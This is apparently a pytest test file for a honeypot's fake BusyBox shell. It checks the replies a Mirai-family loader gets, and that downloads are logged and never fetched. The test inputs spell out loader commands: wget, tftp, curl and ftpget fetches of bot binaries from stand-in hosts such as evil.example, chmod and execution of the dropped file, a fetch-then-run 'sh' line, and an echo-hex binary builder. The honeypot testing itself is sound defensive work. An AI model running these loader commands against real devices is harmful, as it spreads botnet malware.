"""A Mirai-family loader's whole conversation gets the replies it parses."""

from __future__ import annotations

import socket
import struct

import pytest
from twisted.internet.task import Clock

from bbs.shell import BusyBoxShell, ShellEvent

START = 1_795_777_200.0  # 2026-11-27 11:00 UTC


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    """Any attempt to reach the network fails the test loudly."""
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("the fake shell tried to use the network")

    for name in ("socket", "create_connection", "getaddrinfo", "gethostbyname"):
        monkeypatch.setattr(socket, name, refuse)


def shell(arch: str = "armv7l") -> BusyBoxShell:
    clock = Clock()
    clock.advance(START)
    return BusyBoxShell(arch=arch, clock=clock)


def test_login_words_and_applet_probe() -> None:
    sh = shell()
    for word in ("enable", "system", "shell", "linuxshell"):
        result = sh.run(word)
        assert result.output == f"-sh: {word}: not found\n"
        assert result.events == (ShellEvent("command.failed", input=word),)
        assert not result.exit
    result = sh.run("sh")
    assert result.output == "" and result.events == (ShellEvent("command.input", input="sh"),)
    result = sh.run("/bin/busybox MIRAI")
    assert result.output == "MIRAI: applet not found\n"
    assert result.events == (ShellEvent("command.failed", input="/bin/busybox MIRAI"),)


def test_mounts_then_token() -> None:
    result = shell().run("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI")
    lines = result.output.splitlines()
    assert lines[-1] == "ECCHI: applet not found"
    assert "/dev/root / squashfs ro,relatime 0 0" in lines
    assert "tmpfs /tmp tmpfs rw,relatime 0 0" in lines
    assert "tmpfs /var tmpfs rw,relatime 0 0" in lines
    assert "tmpfs /dev tmpfs rw,relatime,mode=755 0 0" in lines
    assert [e.kind for e in result.events] == ["command.input", "command.failed"]
    assert [e.input for e in result.events] == [
        "/bin/busybox cat /proc/mounts", "/bin/busybox ECCHI"]


def test_nippon_write_check() -> None:
    sh = shell()
    result = sh.run(r"/bin/busybox echo -e '\x6b\x61\x6d\x69/dev' > /dev/.nippon; "
                    r"/bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon")
    assert result.output == "kami/dev\n"
    assert len(result.events) == 3
    assert sh.run("ls -a /dev").output.split().count(".nippon") == 0
    # Read-only places refuse the same probe, as they do on the device.
    result = sh.run(r"/bin/busybox echo -e '\x6b\x61\x6d\x69/' > /.nippon; /bin/busybox ECCHI")
    assert result.output == ("-sh: can't create /.nippon: Read-only file system\n"
                             "ECCHI: applet not found\n")


def test_cpuinfo_matches_arch() -> None:
    out = shell().run("cat /proc/cpuinfo").output
    assert "model name\t: ARMv7 Processor rev 5 (v7l)\n" in out
    assert "CPU architecture: 7\n" in out
    mips = shell("mips").run("cat /proc/cpuinfo; uname -m").output
    assert "cpu model\t\t: MIPS 74Kc V4.12\n" in mips
    assert mips.endswith("\nmips\n")


def test_cd_chain_stops_at_first_success() -> None:
    sh = shell()
    result = sh.run("cd /tmp || cd /var/run || cd /mnt")
    assert result.output == ""
    assert [e.input for e in result.events] == ["cd /tmp"]
    assert sh.run("pwd").output == "/tmp\n"
    result = sh.run("cd /nonexistent || cd /var/run || cd /mnt; pwd")
    assert result.output == \
        "-sh: cd: can't cd to /nonexistent: No such file or directory\n/var/run\n"


def test_download_recorded_never_fetched() -> None:
    sh = shell()
    sh.run("cd /tmp")
    result = sh.run("wget http://198.51.100.7/bins/mirai.arm7 -O - > dvrHelper; "
                    "chmod 777 dvrHelper")
    assert result.output == ("Connecting to 198.51.100.7 (198.51.100.7:80)\n"
                             "wget: can't connect to remote host (198.51.100.7): "
                             "Connection timed out\n")
    downloads = [e for e in result.events if e.kind == "file_download"]
    assert downloads == [ShellEvent("file_download", url="http://198.51.100.7/bins/mirai.arm7",
                                    outfile="/tmp/dvrHelper", protocol="http")]
    assert downloads[0].eventid == "cowrie.session.file_download"
    assert downloads[0].fields() == {"url": "http://198.51.100.7/bins/mirai.arm7",
                                     "outfile": "/tmp/dvrHelper", "protocol": "http"}
    # The redirection made an empty file, and chmod worked on it.
    assert sh.run("ls -l dvrHelper").output.startswith(
        "-rwxrwxrwx    1 root     root             0 ")

    result = sh.run("tftp -g -l dvrHelper -r mirai.arm 198.51.100.7")
    assert result.output == "tftp: timeout\n"
    assert result.events[1] == ShellEvent("file_download", url="tftp://198.51.100.7/mirai.arm",
                                          outfile="/tmp/dvrHelper", protocol="tftp")
    result = sh.run("tftp -g -l x -r bins/y.mips evil.example 6969")
    assert result.output == "tftp: bad address 'evil.example'\n"
    assert result.events[1].url == "tftp://evil.example:6969/bins/y.mips"

    # An empty file "runs" silently, as ash runs an empty script.
    result = sh.run("./dvrHelper telnet.arm7")
    assert result.output == ""
    assert result.events == (ShellEvent("command.input", input="./dvrHelper telnet.arm7"),)


def test_other_downloaders() -> None:
    sh = shell()
    result = sh.run("cd /tmp; ftpget -v -u anonymous -p x 203.0.113.9 bot.sh bins/bot.sh")
    assert result.events[-1] == ShellEvent("file_download",
                                           url="ftp://anonymous:x@203.0.113.9/bins/bot.sh",
                                           outfile="/tmp/bot.sh", protocol="ftp")
    assert result.output == ("Connecting to 203.0.113.9 (203.0.113.9:21)\n"
                             "ftpget: can't connect to remote host (203.0.113.9): "
                             "Connection timed out\n")
    result = sh.run("curl -s -o /tmp/k http://203.0.113.9:8080/k || "
                    "curl -O https://evil.example/a/b.sh")
    assert [(e.url, e.outfile) for e in result.events if e.kind == "file_download"] == [
        ("http://203.0.113.9:8080/k", "/tmp/k"), ("https://evil.example/a/b.sh", "/tmp/b.sh")]
    assert result.output == "curl: (6) Could not resolve host: evil.example\n"
    result = sh.run("wget -q evil.example/x.sh -O /tmp/x.sh && sh /tmp/x.sh")
    assert result.output == "wget: bad address 'evil.example'\n"
    assert result.events[1].outfile == "/tmp/x.sh"
    assert result.events[1].url == "http://evil.example/x.sh"
    assert len(result.events) == 2  # && stopped: sh never ran


def _elf_machine(data: bytes) -> tuple[int, int, int]:
    little = data[5] == 1
    (machine,) = struct.unpack("<H" if little else ">H", data[18:20])
    return data[4], data[5], machine


@pytest.mark.parametrize("arch,expected", [
    ("armv7l", (1, 1, 40)), ("armv5l", (1, 1, 40)), ("aarch64", (2, 1, 183)),
    ("mips", (1, 2, 8)), ("mipsel", (1, 1, 8)), ("i686", (1, 1, 3)),
    ("x86_64", (2, 1, 62)), ("powerpc", (1, 2, 20)),
])
def test_elf_header_of_bin_echo(arch: str, expected: tuple[int, int, int]) -> None:
    sh = shell(arch)
    data = sh.run("cat /bin/echo").data
    assert data.startswith(b"\x7fELF")
    assert _elf_machine(data) == expected
    header_size = 52 if expected[0] == 1 else 64
    (ehsize,) = struct.unpack("<H" if expected[1] == 1 else ">H",
                              data[header_size - 12:header_size - 10])
    assert ehsize == header_size
    # dd reads exactly the header, then reports its records on stderr.
    result = sh.run("dd bs=52 count=1 if=/bin/echo || cat /bin/echo")
    assert result.data == data[:52] + b"1+0 records in\n1+0 records out\n"
    assert len(result.events) == 1  # cat did not run after dd succeeded


def test_echo_loader_builds_a_binary() -> None:
    sh = shell()
    sh.run("cd /tmp")
    header = sh.run("cat /bin/echo").data[:52]
    chunks = [header[i:i + 13] for i in range(0, 52, 13)]
    first = "".join(f"\\x{b:02x}" for b in chunks[0])
    assert sh.run(f"echo -ne '{first}' > upnp").output == ""
    for chunk in chunks[1:]:
        line = "".join(f"\\x{b:02x}" for b in chunk)
        assert sh.run(f"echo -ne \"{line}\" >> upnp").output == ""
    assert sh.run("cat upnp").data == header
    result = sh.run("chmod 777 upnp; ./upnp; /bin/busybox IHCCE")
    assert result.output == "Illegal instruction\nIHCCE: applet not found\n"
    # A binary for another processor is fed to the shell and fails on line 1.
    other = shell("mips").run("cat /bin/echo").data[:52]
    sh.run("echo -ne '" + "".join(f"\\x{b:02x}" for b in other) + "' > m; chmod +x m")
    assert sh.run("./m").output == './m: line 1: syntax error: unexpected "("\n'


def test_octal_echo_and_escapes() -> None:
    sh = shell()
    assert sh.run(r"echo -e '\0101\102\x43\tz\\'").output == "ABC\tz\\\n"
    assert sh.run(r"echo -ne 'a\cb'; echo").output == "a\n"
    assert sh.run(r"echo '\x41' \x41 "
                  "\"\\x41\"").output == "\\x41 x41 \\x41\n"
    assert sh.run(r"echo -n -e '\x00\xff'").data == b"\x00\xff"
